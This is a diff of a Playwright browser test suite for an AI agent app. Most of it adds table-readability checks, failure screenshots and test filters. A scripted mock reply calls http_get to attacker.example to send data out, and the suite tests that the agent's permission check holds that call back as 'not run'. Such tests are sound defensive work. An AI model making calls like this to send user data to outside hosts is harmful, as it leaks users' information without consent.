@@ -93,6 +93,8 @@ const SCRIPT = {
       call('http_get', '{"url": "https://attacker.example/c?d=hello%20from%20the%20browser%20test"}'),
       'I did not send it.',
     ],
+    // A table in an answer, with long words in short columns.
+    '[table-test]': ['| tool | level | what it does |\n|---|---|---|\n| get_time | L1 | Tells the current time in the time zone of the machine Evolve runs on, with the date. |\n| write_file | L3 | Writes a file in the workspace, replacing one of the same name after asking. |', '| tool | level | what it does |\n|---|---|---|\n| get_time | L1 | Tells the current time in the time zone of the machine Evolve runs on, with the date. |\n| write_file | L3 | Writes a file in the workspace, replacing one of the same name after asking. |'],
     // The tool-call check of Test in the settings panel (doctor's checks).
     'Call the get_time tool now': [call('get_time', '{}'), call('get_time', '{}')],
   },
@@ -146,11 +148,31 @@ async function until(fn, what) {
   throw new Fail(`gave up waiting: ${what}`);
 }
 
+let lastOpened = null; // the page a failed case leaves a screenshot of
 const browser = await chromium.launch({
   executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
   headless: true,
   args: ['--no-sandbox', '--disable-dev-shm-usage'],
 });
+
+// BROWSER_STATIC=DIR serves the UI's files from DIR (static/) instead of the binary's
+// copies: edit, rerun, no rebuild. The server's headers (CSP) are kept.
+if (process.env.BROWSER_STATIC) {
+  const dir = process.env.BROWSER_STATIC, newContext = browser.newContext.bind(browser);
+  browser.newContext = async (...a) => {
+    const ctx = await newContext(...a);
+    await ctx.route(u => /^\/(static\/.*)?$/.test(u.pathname), async route => {
+      const u = new URL(route.request().url());
+      const file = path.join(dir, u.pathname === '/' ? 'index.html' : u.pathname.slice('/static/'.length));
+      const response = await route.fetch();
+      if (!response.ok() || !fs.existsSync(file)) return route.fulfill({ response });
+      const headers = { ...response.headers() };
+      for (const k of ['content-encoding', 'content-length', 'etag']) delete headers[k];
+      await route.fulfill({ status: 200, headers, body: fs.readFileSync(file) });
+    });
+    return ctx;
+  };
+}
 
 /** Opens the sign-in link `link` in `page` and waits for the app it leads to. */
 async function signIn(page, link) {
@@ -173,6 +195,7 @@ async function open(options = {}) {
   });
   await signIn(page, LOGIN);
   await page.waitForSelector('#sessions li');
+  lastOpened = page;
   return page;
 }
 
@@ -187,13 +210,17 @@ let main; // the desktop page most cases share: one session, turn after turn
 let liveCard = ''; // the text of a tool call's card while the answer came in
 let liveTurn = ''; // that turn's card line
 const results = [];
+// BROWSER_ONLY=REGEX runs only the cases whose name matches (those that open their own page).
+const ONLY = process.env.BROWSER_ONLY ? new RegExp(process.env.BROWSER_ONLY) : null;
 async function test(name, fn) {
+  if (ONLY && !ONLY.test(name)) return;
   try {
     await fn();
     results.push(true);
     console.log(`ok - ${name}`);
   } catch (e) {
     results.push(false);
+    if (SHOTS && lastOpened && !lastOpened.isClosed()) await lastOpened.screenshot({ path: path.join(SHOTS, `fail-${results.length}.png`) }).catch(() => {});
     console.log(`FAIL - ${name}\n    ${(e.stack || String(e)).split('\n').slice(0, e instanceof Fail ? 1 : 6).join('\n    ')}`);
   }
   if (SHOTS && main) {
@@ -1426,6 +1453,67 @@ await test('after a file was read, a call sending data no one gave is asked, sho
   await lastAnswer(main).locator('.body', { hasText: 'I did not send it.' }).waitFor();
   const chips = lastAnswer(main).locator('[data-testid=tool-chip]');
   check((await chips.last().textContent()).includes('not run'), `the http_get chip says not run: ${await chips.last().textContent()}`);
+});
+
+// ---------------------------------------------------------------- daily use (readability, live chats, errors)
+const WIDTHS = [{ width: 1280, height: 800 }, { width: 390, height: 844 }];
+const shot = async (page, name) => {
+  if (SHOTS) await page.screenshot({ path: path.join(SHOTS, `${name}.png`) }).catch(() => {});
+};
+/** The words of `sel`'s table cells that the layout broke across lines ("get_t / ime"). */
+const brokenWords = (page, sel) => page.evaluate(s => {
+  const out = [];
+  for (const cell of document.querySelectorAll(`${s} td, ${s} th`)) {
+    const walk = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
+    for (let n = walk.nextNode(); n; n = walk.nextNode()) {
+      // A word: Latin letters, digits and _ (Chinese text and punctuation may break anywhere).
+      for (const m of n.data.matchAll(/[A-Za-z0-9_]+/g)) {
+        const r = document.createRange();
+        r.setStart(n, m.index);
+        r.setEnd(n, m.index + m[0].length);
+        const tops = new Set([...r.getClientRects()].filter(x => x.width > 0).map(x => Math.round(x.top)));
+        if (tops.size > 1) out.push(m[0]);
+      }
+    }
+  }
+  return out;
+}, sel);
+
+await test('tables keep their words whole: Tools, Prompt and an answer\'s table at 1280 and 390 px (en/中文)', async () => {
+  for (const viewport of WIDTHS) {
+    const page = await open({ viewport });
+    for (const lang of ['en', 'zh']) {
+      if (lang === 'zh') await page.evaluate(() => setLang('zh'));
+      for (const [view, table, rows] of [['tools', '#tools-table', 'tbody tr'], ['prompt', '#prompt-table', 'tbody tr']]) {
+        await page.evaluate(v => show(v), view);
+        await page.locator(`${table} ${rows}`).first().waitFor();
+        await page.waitForTimeout(200);
+        // Shown whole: the box around the table is not squeezed to nothing in its pane.
+        const [boxH, tableH] = await page.evaluate(t => [document.querySelector(t).parentElement.getBoundingClientRect().height,
+          document.querySelector(t).getBoundingClientRect().height], table);
+        check(tableH > 20 && boxH >= tableH - 1, `the ${view} table is shown at ${viewport.width} px: ${boxH} of ${tableH} px`);
+        const broken = await brokenWords(page, table);
+        eq(broken.slice(0, 8).join(' | '), '', `${view} at ${viewport.width} px (${lang}): words broken across lines`);
+        const [sw, cw] = await page.evaluate(v => { const p = document.querySelector(`#view-${v}`); return [p.scrollWidth, p.clientWidth]; }, view);
+        check(sw <= cw + 1, `the ${view} pane fits ${viewport.width} px: ${sw} > ${cw}`);
+        await page.evaluate(t => document.querySelector(t).scrollIntoView({ block: 'start' }), table);
+        await shot(page, `tables-${view}-${viewport.width}-${lang}`);
+      }
+      const source = await page.locator('#tools-table tbody tr', { hasText: 'write_file' }).locator('td').nth(2).textContent();
+      check(!/builtin · builtin/.test(source) && source.trim() === (lang === 'en' ? 'built-in' : '内置'), `a built-in tool's source once, in words: ${source}`);
+      const unclassified = page.locator('#tools-table .origin', { hasText: lang === 'en' ? 'not classified yet' : '尚未分类' }).first();
+      if (await unclassified.count()) check(/L4/.test(await unclassified.getAttribute('title')), 'an unclassified tool says why it is L4');
+    }
+    await page.evaluate(() => setLang('en'));
+    // An answer's table: the first chat's streamed table.
+    await page.evaluate(() => show('chat'));
+    await send(page, 'Which tools are there? [table-test]');
+    await idle(page);
+    await page.locator('#messages table td', { hasText: 'get_time' }).first().waitFor();
+    await shot(page, `tables-answer-${viewport.width}`);
+    eq((await brokenWords(page, '#messages')).join(' | '), '', `an answer's table at ${viewport.width} px`);
+    await page.context().close();
+  }
 });
 
 await test('no page errors, CSP refusals or JavaScript dialogs on the way', async () => {
